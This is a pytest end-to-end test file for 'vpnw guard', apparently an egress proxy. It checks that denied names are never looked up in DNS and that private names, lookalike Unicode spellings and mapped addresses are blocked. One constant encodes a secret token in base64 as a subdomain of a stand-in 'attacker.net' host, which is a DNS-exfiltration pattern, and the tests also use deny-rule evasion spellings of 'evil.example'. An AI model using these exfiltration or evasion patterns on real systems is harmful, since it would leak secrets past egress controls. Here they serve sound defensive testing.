"""Issue 13 through the real thing: `vpnw guard` in the test world, both doors
(HTTP CONNECT and SOCKS5), as root and as vpnwtest. The world's DNS query log
is the witness for every "never looked up": each test also makes one look-up
outside vpnw to show the log does record such a name.

Exit-resolved paths (socks5h://) and the chosen path's secrets are tested in
test_e2e_paths.py, beside the exits they need; bad inputs in test_cli_policy.py.
"""
from __future__ import annotations

import re
import sys

import pytest

from e2e_support import describe, run_events
from test_e2e_guard import (assert_http_denied, assert_socks_denied, conn_of, denial, guarded, only,
                            policy_file, whoami, without_the_setting)

pytestmark = pytest.mark.world


def both_doors(host: str, port: int = 443, atyp: str = "domain") -> list[dict]:
    connect_host = f"[{host}]" if atyp == "ipv6" else host
    return [{"op": "connect", "host": connect_host, "port": port},
            {"op": "socks", "host": host, "atyp": atyp, "port": port}]


def asked(world, mark: int) -> set[str]:
    return {name.lower() for name in world.dns_queries(since=mark)}


def lookup_outside(world, user, name: str) -> None:
    """Control: a look-up made outside vpnw shows up in the DNS log."""
    mark = world.dns_mark()
    world.run([sys.executable, "-c", f"import socket\ntry: socket.getaddrinfo({name!r}, 443)\n"
                                     "except OSError: pass"], user=user)
    assert name.lower() in asked(world, mark), world.dns_queries(since=mark)


# --- (1) address allow rules never make vpnw look a name up -----------------------------

SECRET_NAME = "c2VjcmV0LXRva2Vu.attacker.net"


def test_a_name_no_name_rule_allows_is_denied_without_a_look_up(world, user):
    # The policy: an address allow rule beside a name rule, default deny.
    policy = policy_file(world, 'default = "deny"\n'                              # line 4
                                'allow = ["api.github.com", "140.82.112.0/20"]\n')  # line 5
    plan = (both_doors(SECRET_NAME)
            + [{"op": "get", "url": f"http://{SECRET_NAME}/whoami"},
               {"op": "socks", "host": "140.82.112.6", "atyp": "ipv4", "port": 80, "get": "/whoami",
                "host_header": "api.github.com"},
               {"op": "connect", "host": "api.github.com", "port": 80, "get": "/whoami"}])
    mark = world.dns_mark()
    r, answers, events = guarded(world, user, policy, plan)
    assert r.returncode == 120, describe(r)
    assert SECRET_NAME.lower() not in asked(world, mark)
    reason = f"no allow rule matches {SECRET_NAME.lower()}:{{port}}; default is deny (set in the policy)"
    assert_http_denied(answers[0], reason.format(port=443))
    assert_socks_denied(answers[1])
    assert_http_denied(answers[2], reason.format(port=80))
    secret = conn_of(events, SECRET_NAME, 443) + conn_of(events, SECRET_NAME, 80)
    assert len(secret) == 3
    for evs in secret:
        assert [e["type"] for e in evs] == ["conn.request", "policy.deny"], evs
        assert denial(evs)["rule"] == "default"
    # An address literal is what the address rule allows.
    assert whoami(answers[3])["local"] == "140.82.112.6"
    assert only(conn_of(events, "140.82.112.6", 80)[0], "policy.allow")["fields"]["rule"] == \
        'allow "140.82.112.0/20" (line 5)'
    assert whoami(answers[4])["host"] == "api.github.com"
    end = events[-1]["fields"]
    assert (end["denied"], end["failed"]) == (3, 0), end
    lookup_outside(world, user, SECRET_NAME)


# --- (3) special names, (4) rule normalisation, (5) lookalike spellings -------------------

CORNERS = ('default = "deny"\n'                                                         # line 4
           "deny_private = true\n"                                                      # line 5
           'allow = ["*.internal", "*.local", "*.home.arpa", "localhost", "*.localhost", '
           '"*.localdomain", "localhost.localdomain", "intranet", "metadata", "instance-data", '
           '"*.example", "140.82.112.0/20"]\n'                                         # line 6
           'deny = ["evil.example", "::ffff:140.82.112.66"]\n')                         # line 7

SPECIAL = [  # (name, the source its reason names)
    ("localhost", "RFC 6761"), ("api.localhost", "RFC 6761"), ("printer.local", "RFC 6762"),
    ("nas.home.arpa", "RFC 8375"), ("tracker.office.internal", "ICANN"),
    ("metadata.google.internal", "Google Cloud"), ("metadata", "Google Cloud"),
    ("instance-data", "Amazon EC2"), ("box.localdomain", "localdomain"),
    ("localhost.localdomain", "host files"), ("intranet", "single-label"),
]
LOOKALIKES = ["ｅｖｉｌ.example", "ⓔⓥⓘⓛ.example", "evil。example"]   # full-width, circled, ideographic dot


def test_special_names_lookalikes_and_mapped_rules(world, user, clean_dns):
    world.dns_set("meta.example", ["140.82.112.9"])
    policy = policy_file(world, CORNERS)
    plan = []
    for name, _ in SPECIAL:
        plan += both_doors(name)
    for spelling in LOOKALIKES + ["evil.example"]:
        plan += both_doors(spelling)
    plan += both_doors("140.82.112.66", 80, "ipv4")              # deny "::ffff:140.82.112.66"
    plan += both_doors("64:ff9b::8c52:7006", 80, "ipv6")         # NAT64 form of 140.82.112.6
    plan += [{"op": "get", "url": "http://meta.example/whoami"},  # .example stays ordinary
             {"op": "socks", "host": "140.82.112.6", "atyp": "ipv4", "port": 80, "get": "/whoami",
              "host_header": "api.github.com"}]
    mark = world.dns_mark()
    r, answers, events = guarded(world, user, policy, plan)
    assert r.returncode == 120, describe(r)
    looked_up = asked(world, mark)

    i = 0
    for name, source in SPECIAL:
        connect, socks = answers[i:i + 2]
        i += 2
        assert connect["status"] == 403 and socks["reply"] == 0x02, (name, connect, socks)
        assert_socks_denied(socks)
        reason = connect["headers"]["x-vpnw-deny"]
        assert reason.startswith(f"{name}: ") and source in reason, (name, reason)
        assert_http_denied(connect, reason)
        for evs in conn_of(events, name, 443):
            assert [e["type"] for e in evs] == ["conn.request", "policy.deny"], evs
            assert denial(evs) == {"rule": "deny_private", "reason": without_the_setting(reason),
                                   "enforced": True}
        assert name not in looked_up, name

    for spelling in LOOKALIKES:
        connect, socks = answers[i:i + 2]
        i += 2
        assert connect["status"] == 403 and "not ASCII" in connect["headers"]["x-vpnw-deny"], connect
        assert_socks_denied(socks)
        for evs in conn_of(events, spelling, 443):
            assert denial(evs)["rule"] == "target" and "not ASCII" in denial(evs)["reason"], evs
    assert_http_denied(answers[i], 'evil.example:443 matches deny rule "evil.example" '
                                   f'({policy_file_name(events)} line 7)')
    assert_socks_denied(answers[i + 1])
    i += 2
    assert not [n for n in looked_up if "evil" in n or n.startswith("xn--")], looked_up

    mapped_reason = (f'140.82.112.66:80 matches deny rule "::ffff:140.82.112.66" '
                     f"({policy_file_name(events)} line 7)")
    assert_http_denied(answers[i], mapped_reason)
    assert_socks_denied(answers[i + 1])
    nat64_reason = "no allow rule matches [64:ff9b::8c52:7006]:80; default is deny (set in the policy)"
    assert_http_denied(answers[i + 2], nat64_reason)
    assert_socks_denied(answers[i + 3])
    i += 4

    assert whoami(answers[i])["host"] == "meta.example"
    assert "meta.example" in looked_up
    assert whoami(answers[i + 1])["local"] == "140.82.112.6"
    assert events[0]["fields"]["deny_private_scope"] == "addresses"
    assert "note: path" not in r.stderr
    assert events[-1]["fields"]["failed"] == 0
    lookup_outside(world, user, "tracker.office.internal")
    # Control: the full-width name is the plain one to a resolver that maps (IDNA 2003).
    control = world.run([sys.executable, "-c", "import socket; print(socket.getaddrinfo("
                         "'ｍｅｔａ.example', 80)[0][4][0])"], user=user)
    assert control.stdout.strip() == "140.82.112.9", describe(control)


def policy_file_name(events) -> str:
    return events[0]["fields"]["policy_file"]


# --- (9) `--policy -` reads stdin ------------------------------------------------------------

def test_a_policy_read_from_stdin_is_enforced(world, user):
    text = ('version = 1\nname = "piped"\n[policy]\ndefault = "deny"\ndeny_private = true\n'
            'allow = ["api.github.com"]\n')
    fetch = "curl -sS -o /dev/null -w '%{http_code}\\n'"
    r = world.vpnw(["guard", "--policy", "-", "--", "sh", "-c", f"{fetch} http://api.github.com/whoami; "
                    f"{fetch} http://evil.example/whoami"], user=user, input=text, timeout=120)
    assert r.returncode == 120, describe(r)
    assert r.stdout.split() == ["200", "403"], describe(r)
    events = run_events(r)
    start = events[0]["fields"]
    assert (start["policy"], start["policy_file"]) == ("piped", "<stdin>"), start
    deny = next(e for e in events if e["type"] == "policy.deny")["fields"]
    assert deny["reason"] == "no allow rule matches evil.example:80; default is deny (set in the policy)"
    assert re.search(r"DENY   evil\.example:80", r.stderr), describe(r)
    assert events[-1]["fields"]["denied"] == 1


# --- names in /etc/hosts are answered from the file, without a look-up ------------------

def test_a_name_in_etc_hosts_is_answered_from_the_file_with_no_dns_query(world, user):
    # The broker answers what getaddrinfo would answer from /etc/hosts
    # (nsswitch: files first) itself, without getaddrinfo's thread: the
    # record still has the dns.resolve, the DNS server sees no query, the
    # policy judges the file's address, and a name not in the file still
    # goes to DNS.
    hosts = world.tmp / "etc" / "hosts"          # bind-mounted on the world's /etc/hosts
    before = hosts.read_text()
    name = f"hostsonly-{user}.world"
    try:
        with open(hosts, "a") as f:              # in place: the bind mount keeps its inode
            f.write(f"140.82.112.6\t{name}\n")
        policy = policy_file(world, f'default = "deny"\nallow = ["{name}:80", "api.github.com:80"]\n')
        lookup_outside(world, user, "api.github.com")
        mark = world.dns_mark()
        r, answers, events = guarded(world, user, policy, [
            {"op": "connect", "host": name, "port": 80, "get": "/whoami", "host_header": "api.github.com"},
            {"op": "connect", "host": "api.github.com", "port": 80, "get": "/whoami"}])
        assert r.returncode == 0, describe(r)
        resolved = {e["fields"]["host"]: e["fields"]["addresses"] for e in events if e["type"] == "dns.resolve"}
        assert resolved == {name: ["140.82.112.6"], "api.github.com": ["140.82.112.6"]}
        assert [e["fields"]["address"] for e in events if e["type"] == "conn.open"] == ["140.82.112.6"] * 2
        queried = asked(world, mark)
        assert name not in queried and "api.github.com" in queried, queried
    finally:
        with open(hosts, "w") as f:
            f.write(before)
